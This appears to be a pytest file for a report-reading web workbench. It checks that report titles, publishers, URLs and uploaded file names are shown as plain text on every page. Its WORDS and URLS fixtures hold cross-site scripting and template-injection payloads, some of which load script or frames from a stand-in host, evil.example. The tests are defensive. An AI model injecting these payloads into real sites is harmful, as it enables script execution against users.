"""Is a report full of script, markup, style, template syntax and turning marks ever anything but text?"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from firsthand.case import draft_case, new_case
from firsthand.case.judgements import read_judgements
from firsthand.pipeline import trace_reports
from firsthand.reading import read_reports
from firsthand.workbench.showing import PAGES

WORDS = (
    "<script>window.hit=1</script>",
    "<img src=/hit onerror=window.hit=2>",
    "</style><style>*{display:none!important}</style>",
    '"><svg onload=window.hit=3>',
    "{{ 7*191 }}{% for x in y %}${7*191}",
    "[x](javascript:window.hit=4)",
    "</title></textarea></template></script><script src=//evil.example/x.js></script>",
    "\u202egnp.exe\u2066 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "<iframe src=https://evil.example/></iframe><link rel=prefetch href=//evil.example>",
    "&lt;b&gt; &amp; \u0000 ]]> <!-- <a href='javascript:window.hit=5'>",
)
URLS = (
    "javascript:window.hit=6",
    "data:text/html,<script>window.hit=7</script>",
    "https://evil.example/<script>hit</script>",
)
MARK = "hostile to the core"
ADDRESSES = (*(address for address, _ in PAGES), "/assessment", "/conflicts")


def write_pile(case: Path) -> None:
    """Put reports into a case that are hostile in every place that is anybody's words."""
    place = case / "reports"
    for number, words in enumerate(WORDS):
        name = "".join(sign for sign in words if sign not in "/\0")[:80]
        plain = words.replace("\0", "")
        facts = {
            "title": f"{MARK} {plain}",
            "publisher": plain,
            "url": URLS[number % len(URLS)],
            "published": "2031-05-20",
        }
        told = f'"{plain} the ferry ran aground off Marl," {plain} harbour master Ann Kole told {plain} on Monday.'
        said = f"{told}\n\n{plain}\n"
        (place / f"{number}{name}.txt").write_text(said, "utf-8")
        lines = "".join(f"{key} = {json.dumps(value)}\n" for key, value in facts.items())
        (place / f"{number}{name}.toml").write_text(lines, "utf-8")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    case = tmp_path / "case"
    new_case(case, f"Did the ferry {WORDS[0]} {WORDS[3]} run aground {WORDS[4]}?")
    write_pile(case)
    reports, problems = read_reports([str(case / "reports")])
    draft_case(case, trace_reports(reports, problems))
    return case


def walk(page, seen, address: str) -> str:
    """Open a page, press what can be pressed without leaving it, and return its words."""
    answer = page.goto(seen.bench.address + address)
    assert answer.status in (200, 404), f"{address} answers {answer.status}"
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    for link in page.locator("a.cite, a.basis").all()[:3]:
        if link.is_visible():
            link.click()
    page.keyboard.press("?")
    page.keyboard.press("Escape")
    return page.locator("main").inner_text()


def test_hostile_words_are_text_on_every_page_and_nothing_is_run_or_asked(hostile, serve, visit, asker):
    bench = serve(hostile)
    words = WORDS[0] + WORDS[3]
    asker(bench).post("/judge", {"about": "hypothesis.so.prior", "value": "0.4", "why": words})
    assert read_judgements(hostile)[0].why == words
    asker(bench).post("/seen")
    seen = visit(bench)
    readers = [f"/reports/{report.id}" for report in bench.desk.look().case.reports[:4]]
    dialogs = []
    seen.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    told = {address: walk(seen.page, seen, address) for address in (*ADDRESSES, *readers)}
    assert dialogs == []
    for address, shown in told.items():
        assert "1337" not in shown, f"{address} filled in a template"
    assert MARK in told["/assessment"] and WORDS[0] in told["/history"]
    strange = [url for url in seen.requests if not url.startswith(bench.address) and not url.startswith("data:,")]
    assert strange == [] and not any("/hit" in url for url in seen.requests)
    assert seen.complaints == [] or all("404" in one for one in seen.complaints)


@pytest.mark.parametrize(
    "address", ["/", "/assessment", "/reports", "/sources", "/provenance", "/history", "/export", "/add"]
)
def test_no_page_holds_markup_or_a_link_that_a_report_brought(address, hostile, serve, visit):
    seen = visit(serve(hostile))
    page = seen.open(address)
    assert page.evaluate("window.hit") is None
    assert page.locator("main").is_visible()
    strange = page.evaluate(
        """() => [
        ...[...document.querySelectorAll("a[href], form[action], link[href], script[src], img[src]")]
          .map(one => one.getAttribute("href") ?? one.getAttribute("action") ?? one.getAttribute("src"))
          .filter(place => !/^(\\/|#|https?:|data:,$|$)/.test(place)),
        ...[...document.querySelectorAll("*")]
          .filter(one => [...one.attributes].some(found => found.name.startsWith("on")))
          .map(one => one.outerHTML),
        ...[...document.querySelectorAll("main iframe, main script, main style, main img")].map(one => one.outerHTML),
      ]"""
    )
    assert strange == []


def test_hostile_names_of_files_that_are_sent_are_text_in_the_outcomes(tmp_path, serve, visit):
    new_case(tmp_path / "case", "Did it?")
    seen = visit(serve(tmp_path / "case"))
    page = seen.open("/add")
    name = "<img src=x onerror=window.hit=8>.txt"
    page.locator("#files").set_input_files(
        [{"name": name, "mimeType": "text/plain", "buffer": b"The ferry ran aground."}]
    )
    page.locator("form[data-files]").get_by_role("button", name="Add").click()
    page.get_by_text("1 added.").wait_for()
    page.evaluate("document.querySelector('.listing').open = true")
    assert name in page.locator("[data-outcomes]").inner_text()
    assert page.evaluate("window.hit") is None and seen.complaints == []
